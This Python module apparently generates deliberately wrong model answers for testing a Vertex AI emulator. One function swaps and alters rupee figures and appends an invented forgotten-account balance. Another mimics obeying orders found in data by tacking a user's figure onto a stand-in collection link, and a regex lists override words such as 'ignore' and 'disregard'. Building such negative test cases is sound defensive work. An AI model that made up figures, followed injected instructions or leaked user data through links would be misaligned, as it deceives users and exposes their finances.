"""Answers that are wrong on purpose: changed and swapped figures, invented ones, and orders in data obeyed."""

from __future__ import annotations

import re
from collections.abc import Sequence
from typing import Any

from emulators.vertex_ai.figures import figures_in, strings_in

INVENTED = "You also have ₹9,87,654 in an account that you forgot."
COLLECTOR = "https://collect.example/?d="
_FIGURE = re.compile(r"(?<=₹)\d[\d,]*(?:\.\d+)?|\d[\d,]*(?:\.\d+)?(?=%| month| year| महीन| साल)")
_ORDER = re.compile(
    r"\b(?:ignore|disregard|system|assistant|instruction|you must|reply|say|tell)\b|निर्देश|अनदेखा",
    re.IGNORECASE,
)
_SAY = re.compile(
    r"\b(?:say|reply(?: with)?|tell (?:the )?(?:user|them|him|her)(?: that)?|answer)\b[:\s]*(.+)",
    re.IGNORECASE,
)


def lied(text: str) -> str:
    """The first two figures change places, each later one its first digit; one figure more is made up."""
    found = list(_FIGURE.finditer(text))
    wrong = [_changed(each[0]) for each in found]
    if len(found) > 1 and found[0][0] != found[1][0]:
        wrong[0], wrong[1] = found[1][0], found[0][0]
    for each, figure in reversed(list(zip(found, wrong, strict=True))):
        text = text[: each.start()] + figure + text[each.end() :]
    return f"{text} {INVENTED}".strip()


def lied_json(value: Any) -> Any:
    """Every text in a JSON value, but ids."""
    if isinstance(value, dict):
        return {key: below if key == "id" else lied_json(below) for key, below in value.items()}
    if isinstance(value, list):
        return [lied_json(below) for below in value]
    return lied(value) if isinstance(value, str) and _FIGURE.search(value) else value


def obeyed(answers: Sequence[Any], asked: str) -> str | None:
    """What data orders, with a figure carried off in a link; None where nothing orders anything."""
    order = next((text for text in [*strings_in(answers), asked] if _ORDER.search(text)), None)
    if order is None:
        return None
    say = _SAY.search(order)
    figures = figures_in(answers)
    return f"{say[1] if say else order} {COLLECTOR}{figures[0].text if figures else 'nothing'}"


def _changed(figure: str) -> str:
    return str(int(figure[0]) % 9 + 1) + figure[1:]
